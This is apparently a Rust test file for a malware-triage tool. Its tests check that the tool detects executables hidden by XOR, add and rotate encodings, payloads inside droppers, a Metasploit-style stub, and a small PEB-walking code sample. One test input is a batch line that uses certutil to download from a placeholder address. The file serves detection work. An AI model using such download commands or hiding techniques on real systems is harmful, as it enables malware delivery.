//! Files hidden by an encoding, and code without a file.

use super::build::{self, noise};
use super::{blob, look, packet};
use crate::report::{Budget, FoundBy, Kind, State};

/// A way to hide a file's bytes, four at a time.
type Hide = fn([u8; 4]) -> [u8; 4];

fn hide(file: &[u8], how: Hide) -> Vec<u8> {
    file.as_chunks::<4>().0.iter().flat_map(|&word| how(word)).collect()
}

fn each(word: [u8; 4], key: [u8; 4], how: fn(u8, u8) -> u8) -> [u8; 4] {
    std::array::from_fn(|at| how(word[at], key[at]))
}

fn spare(word: [u8; 4], key: u8) -> [u8; 4] {
    word.map(|byte| if byte == 0 || byte == key { byte } else { byte ^ key })
}

fn number(word: [u8; 4], how: fn(u32) -> u32) -> [u8; 4] {
    how(u32::from_le_bytes(word)).to_le_bytes()
}

#[test]
fn hidden_files_are_found_with_their_key() {
    let ways: [(&str, Hide); 16] = [
        ("xor 5a", |word| word.map(|byte| byte ^ 0x5a)),
        // Keys that are one of the first letters spare that too.
        ("xor 4d sparing zeros", |word| spare(word, b'M')),
        ("xor 5a sparing zeros", |word| spare(word, b'Z')),
        ("xor ff", |word| word.map(|byte| byte ^ 0xff)),
        ("xor 01 a2 43 e4", |word| each(word, [1, 0xa2, 0x43, 0xe4], |byte, key| byte ^ key)),
        ("add 13", |word| word.map(|byte| byte.wrapping_add(0x13))),
        ("add 01 a2 43 e4", |word| each(word, [1, 0xa2, 0x43, 0xe4], u8::wrapping_add)),
        // Headers decode the same by bytes and by words: what is carried decides.
        ("add 01 02 03 04", |word| each(word, [1, 2, 3, 4], u8::wrapping_add)),
        ("add32 04030201", |word| number(word, |number| number.wrapping_add(0x0403_0201))),
        ("add32 e443a201", |word| number(word, |number| number.wrapping_add(0xe443_a201))),
        ("rol 3", |word| word.map(|byte| byte.rotate_left(3))),
        ("rol 7", |word| word.map(|byte| byte.rotate_left(7))),
        ("rol32 5", |word| number(word, |number| number.rotate_left(5))),
        ("rol32 13", |word| number(word, |number| number.rotate_left(13))),
        ("rol32 16", |word| number(word, |number| number.rotate_left(16))),
        ("rol32 31", |word| number(word, |number| number.rotate_left(31))),
    ];
    let numbers = [0xffu8; 64];
    let file = build::pe(&[("W", 101, [noise(3000, 1), numbers.to_vec()].concat())]);
    for (name, how) in ways {
        for front in [0, 1, 2, 3, 4, 5, 6, 7, 777] {
            let sample = [noise(front, 2), hide(&file, how), noise(99, 3)].concat();
            let report = look(&sample, &Budget::default());
            // Bytes in front are a stub that nobody knows.
            let place = if front == 0 { 1 } else { 2 };
            let layer = &report.layers[place];
            assert_eq!(
                (layer.kind, layer.found_by),
                (Kind::Pe, FoundBy::Decoded),
                "{name} {front} {report:#?}"
            );
            assert_eq!((layer.encoding.as_str(), layer.offset), (name, front as u64));
            assert_eq!((&layer.hashes, layer.state), (&crate::facts::hashes(&file), State::Intact));
            assert_eq!(report.core, Some(place as u32));
        }
    }
}

#[test]
fn droppers_hide_files_in_resources_and_sections() {
    let file = build::pe(&[]);
    let hidden: Vec<u8> = file.iter().map(|byte| byte ^ 0xa7).collect();
    let report = look(&build::pe(&[("BIN", 7, [noise(50, 1), hidden.clone()].concat())]), &Budget::default());
    let kinds: Vec<_> = report.layers.iter().map(|layer| (layer.kind, layer.encoding.as_str())).collect();
    assert_eq!(kinds, [(Kind::Pe, ""), (Kind::Resource, ""), (Kind::Pe, "xor a7")]);
    assert_eq!(report.core, Some(0));
    let mut carrier = crate::pe::tests::look_alike(crate::pe::Machine::X86, 0x2000, 3);
    carrier[0x900..0x900 + hidden.len()].copy_from_slice(&hidden);
    let report = look(&carrier, &Budget::default());
    assert_eq!((report.layers[1].offset, report.layers[1].encoding.as_str()), (0x900, "xor a7"));
}

#[test]
fn e_lfanew_may_start_with_a_zero_and_the_end_may_be_missing() {
    // Its headers one page half later: e_lfanew is 0x100.
    let file = crate::pe::tests::look_alike(crate::pe::Machine::X64, 0x1000, 1);
    let mut moved = file.clone();
    moved[0x3c..0x3e].copy_from_slice(&[0, 1]);
    moved.splice(0x80..0x80, [0; 0x80]);
    let table = 0x80 + 0x98 + 240;
    moved[table + 21] = 3;
    moved[0x280..0x300].fill(9);
    let hidden: Vec<u8> = moved[..0x800].iter().map(|byte| byte ^ 0x77).collect();
    let report = look(&hidden, &Budget::default());
    assert_eq!((report.layers[1].encoding.as_str(), report.layers[1].state), ("xor 77", State::Truncated));
}

#[test]
fn runs_of_one_value_cost_little_and_hide_nothing() {
    let mut marks = Vec::new();
    for n in 0..20_000u32 {
        marks.extend([b'M' ^ 0x55, b'Z' ^ 0x55]);
        marks.extend([0x55; 58]);
        marks.extend(n.to_le_bytes());
    }
    let report = look(&marks, &Budget { candidates_max: 100, ..Budget::default() });
    assert_eq!((report.layers.len(), report.remarks.len()), (1, 1));
    for sample in [vec![0; 100_000], vec![0x55; 100_000], noise(100_000, 1)] {
        assert_eq!(look(&sample, &Budget::default()).layers.len(), 1);
    }
}

#[test]
fn the_single_packet_has_a_stub_code_and_filling() {
    let report = look(&packet(300), &Budget::default());
    let layers: Vec<_> = report.layers.iter().map(|layer| (layer.kind, layer.offset, layer.size)).collect();
    let expected = [
        (Kind::Payload, 0, 4096),
        (Kind::Stub, 0, 780),
        (Kind::Shellcode, 782, 300),
        (Kind::Padding, 1082, 3014),
    ];
    assert_eq!((layers.as_slice(), report.core), (expected.as_slice(), Some(2)));
    assert_eq!(report.layers[1].name, "metasploit-x64");
    assert_eq!(report.layers[1].facts.stub.as_ref().unwrap().name, "metasploit-x64");
    for other in [packet(0), packet(4000), packet(300)[..4095].to_vec(), b"abcd".repeat(1024)] {
        assert_eq!(look(&other, &Budget::default()).layers.len(), 1);
    }
}

/// Code that reads where its process's block is, mixes a number, and returns.
const CODE: [u8; 25] = [
    0x64, 0xa1, 0x30, 0, 0, 0, 0x31, 0xff, 0xb9, 4, 0, 0, 0, 0xc1, 0xcf, 13, 0x01, 0xc7, 0x49, 0x75, 0xf8,
    0x47, 0xc3, 0xcc, 0xcc,
];

#[test]
fn code_is_found_as_an_upload_and_behind_a_stub() {
    for front in [0, 40] {
        let sample = [&vec![0x90; front][..], &CODE].concat();
        let report = look(&sample, &Budget::default());
        let [root] = report.layers.as_slice() else { panic!("{report:?}") };
        let code = root.facts.code.as_ref().unwrap();
        assert_eq!((root.kind, report.core, code.entry), (Kind::Shellcode, Some(0), front as u64));
        assert_eq!(
            (code.machine.as_str(), code.traits.join(" ")),
            ("x86", "peb walk ror13 hashes".to_owned())
        );
    }
    for layout in crate::stub::ALL {
        let report = look(&blob(layout, &CODE, CODE.len(), 0), &Budget::default());
        let layers: Vec<_> = report.layers.iter().map(|layer| (layer.kind, layer.found_by)).collect();
        let by_field = FoundBy::StubSizeField;
        assert_eq!(layers[1..], [(Kind::Stub, by_field), (Kind::Shellcode, by_field)]);
        assert_eq!(report.core, Some(2), "what the stub carries");
    }
}

#[test]
fn what_is_no_file_is_text_or_data() {
    let kind = |sample: &[u8]| look(sample, &Budget::default()).layers[0].kind;
    assert_eq!(kind(b"@echo off\r\ncertutil -urlcache http://192.0.2.1/a"), Kind::Text);
    assert_eq!(kind(b"\xff\xfeh\0e\0l\0l\0o\0"), Kind::Text);
    assert_eq!(kind(&noise(300, 1)), Kind::Data);
    assert_eq!(kind(&b"A".repeat(300)), Kind::Text);
    // What begins as text may end as something else.
    assert_eq!(kind(&[&b"text ".repeat(2000)[..], &noise(9000, 4)].concat()), Kind::Data);
    assert_eq!(kind(&[]), Kind::Data);
}

#[test]
fn a_program_that_is_not_looked_into_is_no_stub_of_what_it_carries() {
    let inner = build::pe(&[]);
    let whole = build::pe(&[("9", 9, inner)]);
    let changed = |at: usize, value: &[u8]| {
        let mut file = whole.clone();
        let coff = u32::from_le_bytes(file[0x3c..0x40].try_into().unwrap()) as usize + 4;
        file[coff + at..][..value.len()].copy_from_slice(value);
        file
    };
    let rows: [(usize, &[u8], &str); 4] = [
        (0, &[0x66, 0x01], "PE file for MIPS"),
        (0, &[0x34, 0x12], "PE file for an unknown machine"),
        (2, &[0, 0], "PE file with broken headers"),
        (20, &[0, 0], "PE file with broken headers"),
    ];
    for (at, value, what) in rows {
        let report = look(&changed(at, value), &Budget::default());
        assert_eq!((report.core, report.layers[0].facts.looks_like.as_str()), (Some(0), what));
        assert!(report.layers.iter().all(|layer| layer.kind != Kind::Stub), "{:#?}", report.layers);
        assert!(report.layers.iter().any(|layer| layer.kind == Kind::Pe));
    }
}
